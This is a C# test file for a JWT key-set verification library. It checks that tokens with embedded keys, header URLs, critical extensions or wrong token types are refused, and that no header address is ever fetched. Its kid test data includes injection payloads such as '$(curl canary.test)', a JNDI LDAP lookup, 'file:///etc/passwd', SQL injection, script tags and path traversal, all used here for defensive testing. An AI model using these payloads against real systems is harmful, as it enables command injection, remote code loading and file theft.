using System.Globalization;
using System.Text.Json.Nodes;
using JwksSdk.Testing;
using JwksSdk.Tests.Line.Oracle;

namespace JwksSdk.Tests.Line.Threats;

/// <summary>Attacks that want something in the header to be believed, in the shape of every provider.</summary>
public sealed class HeaderThreatTests : IDisposable
{
    private const string Canary = "canary.test";
    private readonly LineWorld _world = new(hasCache: true);

    public static TheoryData<string> Providers => LineWorld.Providers;

    public void Dispose() => _world.Dispose();

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task An_embedded_key_verifies_nothing(string provider)
    {
        var issuer = _world[provider];
        await _world.WarmAsync();
        foreach (var kind in issuer.Fake.TokenKinds)
        {
            var token = issuer.Raw(kind);
            var keyId = token.Key.KeyId;
            token.Key = provider == "OpenIdConnect" ? LineKeys.Stranger : LineKeys.RsaStranger;
            RawToken.Set(token.Header, "jwk", token.Key.WithKeyId(keyId).ToJwk().ToJsonString());
            await _world.RefusedAsync(issuer, token.Sign(), JwtErrorCode.BadSignature, "a jwk under the issuer's kid");

            RawToken.Set(token.Header, "kid", $"\"{LikeAKeyOf(provider)}\"");
            await _world.RefusedAsync(issuer, token.Sign(), JwtErrorCode.UnknownKeyId, "a jwk under its own kid");
            token.Header.RemoveAll(static member => member.Is("kid"));
            await _world.RefusedAsync(issuer, token.Sign(), JwtErrorCode.KeyIdMissing, "a jwk without a kid");
        }
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Key_material_in_the_header_is_not_even_read(string provider)
    {
        var issuer = _world[provider];
        string[] names = ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"];
        string[] values =
        [
            "null",
            "0",
            "\"x\"",
            "[]",
            "{}",
            "{\"kty\":\"oct\",\"k\":\"\"}",
            $"\"https://{Canary}/\"",
            "[\"!\"]",
        ];
        foreach (var kind in issuer.Fake.TokenKinds)
        {
            foreach (var name in names)
            {
                var token = issuer.Raw(kind);
                RawToken.Set(token.Header, name, values[(names.IndexOf(name) + kind.Length) % values.Length]);
                var result = await _world.VerifyAsync(token.Sign());
                Assert.True(result.IsVerified, $"{name}: {result}");
            }
        }
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task No_address_in_a_header_is_ever_asked_for_anything(string provider)
    {
        var issuer = _world[provider];
        string[] names = ["jku", "x5u", "iss", "url", "issuer", "jwks_uri", "kid", "\\u006aku", "JKU"];
        string[] addresses =
        [
            $"https://{Canary}/keys",
            $"http://{Canary}/",
            $"//{Canary}",
            $"https://user@{Canary}:443/?q#f",
        ];
        foreach (var name in names)
        {
            foreach (var address in addresses)
            {
                foreach (var key in new[] { null, LineKeys.RsaStranger })
                {
                    var token = issuer.Raw(issuer.Fake.TokenKinds[0]);
                    token.Key = key ?? token.Key;
                    RawToken.Set(token.Header, name, $"\"{address}\"");
                    await _world.VerdictsAsync(issuer, token.Sign());
                }
            }
        }

        AssertThatOnlyTheIssuerWasAsked(issuer);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task A_certificate_in_the_key_set_must_hold_the_same_key(string provider)
    {
        var issuer = _world[provider];
        var other = new FakeAuth0("line-one.eu.auth0.com").GetKeySet()["keys"]!.AsArray();
        issuer.Publish(keys =>
        {
            foreach (var key in keys.Where(static key => (string?)key!["kty"] is "RSA" or "EC"))
            {
                // The second key's certificate, so that Auth0 has a foreign one too.
                key!["x5c"] = other[1]!["x5c"]!.DeepClone();
            }

            if (provider == "Auth0")
            {
                keys.RemoveAt(1);
            }
        });

        foreach (var kind in issuer.Fake.TokenKinds)
        {
            // Without any other key the set is worth nothing, and nobody can tell whether the token is good.
            await _world.RefusedAsync(issuer, issuer.Fake.Mint(kind), JwtErrorCode.KeysUnavailable);
        }
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task A_kid_is_compared_and_nothing_else(string provider)
    {
        var issuer = _world[provider];
        await _world.WarmAsync();
        foreach (var keyId in KeyIds())
        {
            var token = issuer.Raw(issuer.Fake.TokenKinds[0]);
            RawToken.Set(token.Header, "kid", JsonValue.Create(keyId).ToJsonString());
            var isTooLong = System.Text.Encoding.UTF8.GetByteCount(keyId) > 256;
            var expected = isTooLong || keyId.Length == 0 ? JwtErrorCode.InvalidHeader : JwtErrorCode.UnknownKeyId;
            await _world.RefusedAsync(issuer, token.Sign(), expected, keyId);
        }

        AssertThatOnlyTheIssuerWasAsked(issuer);
        foreach (var marked in KeyIds().Where(static keyId => keyId.Length > 8))
        {
            Assert.DoesNotContain(marked, _world.Log.Messages, StringComparison.Ordinal);
            Assert.DoesNotContain(marked, _world.Log.Values, StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task An_extension_is_refused_whatever_it_lists(string provider)
    {
        var issuer = _world[provider];
        (string Name, string Value)[] extensions =
        [
            ("crit", "[\"b64\"]"),
            ("crit", "[\"exp\"]"),
            ("crit", "[\"x\"]"),
            ("crit", "[]"),
            ("crit", "[\"x\",\"x\"]"),
            ("crit", "\"x\""),
            ("crit", "{}"),
            ("crit", "null"),
            ("\\u0063rit", "[]"),
            ("b64", "false"),
            ("b64", "true"),
            ("b64", "null"),
            ("b\\u00364", "false"),
        ];
        foreach (var kind in issuer.Fake.TokenKinds)
        {
            foreach (var (name, value) in extensions)
            {
                var token = issuer.Raw(kind);
                token.Header.Insert(0, RawMember.Of(name, value));
                await _world.RefusedAsync(issuer, token.Sign(), JwtErrorCode.CriticalHeader, name + value);
            }

            // Claims that are not encoded, as b64 would have it.
            var unencoded = issuer.Raw(kind);
            RawToken.Set(unencoded.Header, "b64", "false");
            RawToken.Set(unencoded.Header, "crit", "[\"b64\"]");
            var parts = unencoded.Sign().Split('.');
            var text =
                $"{parts[0]}.{{\"iss\":\"{issuer.Fake.Issuer.Replace(".", "", StringComparison.Ordinal)}\"}}.{parts[2]}";
            await _world.RefusedAsync(issuer, text, JwtErrorCode.CriticalHeader);
        }

        Assert.Empty(_world.Sent);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task A_logout_token_and_a_proof_are_of_no_kind(string provider)
    {
        var issuer = _world[provider];
        var now = _world.Clock.GetUtcNow().ToUnixTimeSeconds().ToString(CultureInfo.InvariantCulture);
        var logout = $$$"""
            "sub":"pat","aud":"acme-web","iat":{{{now}}},"exp":4102444800,"jti":"j","sid":"s","events":{"http://schemas.openid.net/event/backchannel-logout":{}}
            """;
        (string Type, string Claims)[] foreign =
        [
            ("logout+jwt", logout),
            ("JWT", logout),
            (
                "dpop+jwt",
                $$$"""
                "jti":"j","htm":"GET","htu":"https://api.acme.test/","iat":{{{now}}},"ath":"AAAA"
                """
            ),
            (
                "secevent+jwt",
                $$$"""
                "jti":"j","iat":{{{now}}},"aud":"acme-web","events":{}
                """
            ),
        ];
        var key = issuer.Raw(issuer.Fake.TokenKinds[0]).Key;
        foreach (var (type, claims) in foreign)
        {
            var header = $$"""{"alg":"{{key.Algorithm}}","typ":"{{type}}","kid":"{{key.KeyId}}"}""";
            var token = key.Sign(header, $$"""{"iss":"{{issuer.Fake.Issuer}}",{{claims.Trim()}}}""");
            await _world.RefusedAsync(issuer, token, JwtErrorCode.WrongTokenKind, type);

            // A proof names no issuer, and needs none to be refused.
            await _world.RefusedAsync(
                issuer,
                key.Sign(header, $"{{{claims.Trim()}}}"),
                JwtErrorCode.IssuerMissing,
                type
            );
        }
    }

    private static string LikeAKeyOf(string provider) =>
        provider == "Clerk" ? "ins_2AcmeInstance000000000099" : "key000000000000000000000000000000000000099";

    /// <summary>Two hundred kids: paths, queries, markup, commands, line breaks, control characters, and the limits of length.</summary>
    private static IEnumerable<string> KeyIds()
    {
        string[] patterns =
        [
            "../../../../dev/null",
            "..\\..\\windows\\win.ini",
            "' OR '1'='1' --",
            "\"; DROP TABLE keys; --",
            "https://canary.test/?k=",
            "//canary.test/",
            "file:///etc/passwd",
            "a\r\nHost: canary.test\r\n",
            "$(curl canary.test)",
            "`id`|;&&",
            "<script>alert(1)</script>",
            "%2e%2e%2f%00",
            "${jndi:ldap://canary.test}",
            "{{7*7}}",
            "kid\0hidden",
            "\u202ekid\u202c",
            "\ufeffkid-after-mark",
            "kid\u00e9\u4e2d\ud83d\ude00",
            "?kid=other&kid=third",
            "#fragment-of-a-kid",
        ];
        foreach (var pattern in patterns)
        {
            for (var number = 0; number < 9; number++)
            {
                yield return pattern + new string('x', number);
            }
        }

        for (var length = 0; length < 20; length++)
        {
            yield return new string('k', length * 32);
        }
    }

    private void AssertThatOnlyTheIssuerWasAsked(LineIssuer issuer)
    {
        string[] own = [issuer.Fake.JwksUri, issuer.Fake.DiscoveryUri];
        var asked = _world.Sent.Where(uri => uri.Host == new Uri(issuer.Fake.BaseAddress).Host);
        Assert.Subset(own.ToHashSet(), asked.Select(static uri => uri.OriginalString).ToHashSet());
        Assert.NotEmpty(asked);
        Assert.DoesNotContain(_world.Sent, static uri => uri.OriginalString.Contains(Canary, StringComparison.Ordinal));
    }
}
